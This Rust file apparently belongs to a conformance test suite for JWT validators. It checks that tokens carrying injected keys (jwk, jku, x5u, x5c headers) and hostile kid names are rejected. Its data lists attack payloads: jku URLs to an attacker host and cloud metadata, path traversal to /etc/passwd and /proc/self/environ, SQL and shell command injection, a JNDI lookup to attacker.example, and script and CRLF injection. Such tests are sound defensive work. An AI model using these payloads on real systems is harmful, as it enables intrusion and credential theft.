//! Keys that a token brings along or points to (RFC 8725 section 3.10), and names of keys that
//! aim at whatever looks them up.

use serde_json::{Value, json};

use super::case::{Case, Family, KEY_UNKNOWN, MALFORMED, PASSES, SIGNATURE};
use super::mint::{Mint, ed25519_jwk, encoded, merged, sha256, token};

/// `attacker` is an address that nobody may ever ask for keys.
pub(super) fn cases(mint: &Mint, attacker: &str) -> Vec<Case> {
    let mut cases = brought_along(mint, attacker);
    cases.extend(names(mint));
    cases
}

/// Headers that hold the attacker's key in every way that RFC 7515 section 4.1 knows.
fn headers(mint: &Mint, attacker: &str) -> Vec<(&'static str, Value)> {
    let jwk = mint.stranger.p256.jwk("P-256");
    let (x, _) = mint.stranger.p256.point();
    let certificate = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, x);
    let thumbprint = encoded(sha256(x));
    vec![
        ("jwk", json!({"jwk": jwk})),
        (
            "jwk with the name of a known key",
            json!({"jwk": merged(jwk.clone(), json!({"kid": "ec-1"}))}),
        ),
        (
            "jwk with its private half",
            json!({"jwk": merged(jwk.clone(), json!({"d": encoded([1; 32])}))}),
        ),
        ("jwk in an array", json!({"jwk": [jwk]})),
        (
            "jwk of another kind",
            json!({"jwk": ed25519_jwk(&mint.stranger.ed25519)}),
        ),
        (
            "jwk that is a secret",
            json!({"jwk": {"kty": "oct", "k": encoded("secret")}}),
        ),
        ("jwks", json!({"jwks": {"keys": [jwk]}})),
        ("keys", json!({"keys": [jwk]})),
        (
            "jku",
            json!({"jku": format!("http://{attacker}/jwks.json")}),
        ),
        (
            "jku at the issuer with userinfo",
            json!({"jku": format!("http://issuer.example@{attacker}/jwks.json")}),
        ),
        (
            "jku at the issuer with a fragment",
            json!({"jku": format!("http://{attacker}/#https://issuer.example/")}),
        ),
        ("jku that is a file", json!({"jku": "file:///etc/passwd"})),
        (
            "jku in the cloud's metadata",
            json!({"jku": "http://169.254.169.254/latest/meta-data/"}),
        ),
        (
            "jku as data",
            json!({"jku": format!("data:application/json,{}", json!({"keys": [jwk]}))}),
        ),
        (
            "x5u",
            json!({"x5u": format!("http://{attacker}/chain.pem")}),
        ),
        ("x5c", json!({"x5c": [certificate]})),
        ("x5c as text", json!({"x5c": certificate})),
        ("x5c with nothing", json!({"x5c": []})),
        ("x5t", json!({"x5t": thumbprint})),
        ("x5t#S256", json!({"x5t#S256": thumbprint})),
        (
            "all of them",
            json!({
                "jwk": jwk, "jku": format!("http://{attacker}/jwks.json"),
                "x5u": format!("http://{attacker}/chain.pem"),
                "x5c": [certificate], "x5t": thumbprint,
            }),
        ),
    ]
}

fn brought_along(mint: &Mint, attacker: &str) -> Vec<Case> {
    let mut family = Family::new("injected key");
    for (name, injected) in headers(mint, attacker) {
        let claims = mint.claims(json!({"sub": "root"}));
        for (rest, kid, expected) in [
            ("under a name of its own", json!("stranger"), KEY_UNKNOWN),
            ("under a known name", json!("ec-1"), SIGNATURE),
        ] {
            let header = Mint::header("ES256", merged(injected.clone(), json!({"kid": kid})));
            let token = token(header, &claims, |message| mint.stranger.p256.sign(message));
            family.token(format!("{name} {rest}"), token, expected);
        }
        // Nobody looks at these members, so they do no harm either.
        let token = mint.with_header(injected);
        family.token(format!("{name} beside a good signature"), token, PASSES);
    }
    let jwk = mint.stranger.p256.jwk("P-256");
    let header = json!({"alg": "ES256", "jwk": jwk}).to_string();
    let nameless = token(header, mint.claims(json!({})), |message| {
        mint.stranger.p256.sign(message)
    });
    family.token("jwk without a name", &nameless, SIGNATURE);
    family.token_for(
        "/nameless",
        "jwk where no key has a name",
        nameless,
        SIGNATURE,
    );
    let header = Mint::header("RS256", json!({"jwk": mint.stranger.rsa.jwk()}));
    let by_rsa = token(header, mint.claims(json!({})), |message| {
        mint.stranger.rsa.sign("RS256", message)
    });
    family.token("jwk of RSA under a known name", by_rsa, SIGNATURE);
    let header = Mint::header("EdDSA", json!({"jwk": ed25519_jwk(&mint.stranger.ed25519)}));
    let by_ed25519 = token(header, mint.claims(json!({})), |message| {
        mint.stranger.ed25519.sign(message).as_ref().to_vec()
    });
    family.token("jwk of Ed25519 under a known name", by_ed25519, SIGNATURE);
    for value in [json!(null), json!(1), json!(""), json!([]), json!({})] {
        let header = json!({"jwk": value, "jku": value, "x5u": value, "x5c": value, "x5t": value});
        let token = mint.with_header(header);
        family.token(format!("each of them is {value}"), token, PASSES);
    }
    family.into_cases()
}

/// Names that nobody gave a key, and that something behind a careless look-up understands.
const NAMES: &[&str] = &[
    "",
    " ",
    "EC-1",
    "Ec-1",
    "ec-1 ",
    " ec-1",
    "ec-1\n",
    "ec-1\u{0}",
    "ec-1\u{0}.pem",
    "ec-1/",
    "ec-1.json",
    "ec-1,rsa-1",
    "ec-1;",
    "ec\u{2010}1",
    "e\u{441}-1",
    "ec-%31",
    "ec\\u002d1",
    "*",
    ".*",
    "ec-?",
    "%",
    "_",
    "null",
    "undefined",
    "0",
    "-1",
    "true",
    "[object Object]",
    "/dev/null",
    "../../../../../../../../dev/null",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://127.0.0.1/jwks.json",
    "\\\\attacker.example\\share\\key",
    "%2e%2e%2fdev%2fnull",
    "....//....//dev/null",
    "ec-1?x=y",
    "?kid=ec-1",
    "#ec-1",
    "ec-1' OR '1'='1",
    "' UNION SELECT 'secret'; --",
    "\" OR \"\"=\"",
    "1; DROP TABLE keys",
    "') OR 1=1--",
    "{\"$ne\": null}",
    "*)(uid=*))(|(uid=*",
    "| sleep 10",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "<!DOCTYPE x SYSTEM \"http://a.example/\">",
    "\r\nset-cookie: a=b",
    "x\r\n\r\nHTTP/1.1 200 OK",
    "\u{202e}1-ce",
    "\u{feff}ec-1",
    "\u{1f511}",
    "__proto__",
    "constructor",
    "%s%s%s%n",
    "thumbprint",
];

/// `kid` is a name in the provider's set and nothing else.
fn names(mint: &Mint) -> Vec<Case> {
    let mut family = Family::new("kid");
    let signed = |kid: Value| {
        mint.signed(
            "ES256",
            Mint::header("ES256", json!({"kid": kid})),
            mint.claims(json!({})),
        )
    };
    for name in NAMES {
        family.token(format!("{name:?}"), signed(json!(name)), KEY_UNKNOWN);
    }
    for (name, value) in [
        ("a number", json!(1)),
        ("a fraction", json!(0.5)),
        ("null", Value::Null),
        ("true", json!(true)),
        ("false", json!(false)),
        ("an array", json!(["ec-1"])),
        ("an empty array", json!([])),
        ("an object", json!({"$ne": null})),
        ("an empty object", json!({})),
    ] {
        family.token(name, signed(value), MALFORMED);
    }
    for (length, expected) in [
        (255, KEY_UNKNOWN),
        (256, KEY_UNKNOWN),
        (257, MALFORMED),
        (2000, MALFORMED),
    ] {
        let token = signed(json!("k".repeat(length)));
        family.token(format!("{length} bytes"), token, expected);
    }
    // The bound is in bytes: 128 characters of two.
    let token = signed(json!("\u{e4}".repeat(129)));
    family.token("129 characters of two bytes", token, MALFORMED);
    let of = |name: &str| json!({"kid": "ec-1", "KID": name});
    let token = mint.with_header(of("stranger"));
    family.token("a second one in capitals", token, PASSES);
    let good = mint.good("ES256");
    let target = format!("/main?kid=ec-1&token={}", &good[..20]);
    family.lines(&target, "in the query", "", super::case::MISSING);
    family.into_cases()
}
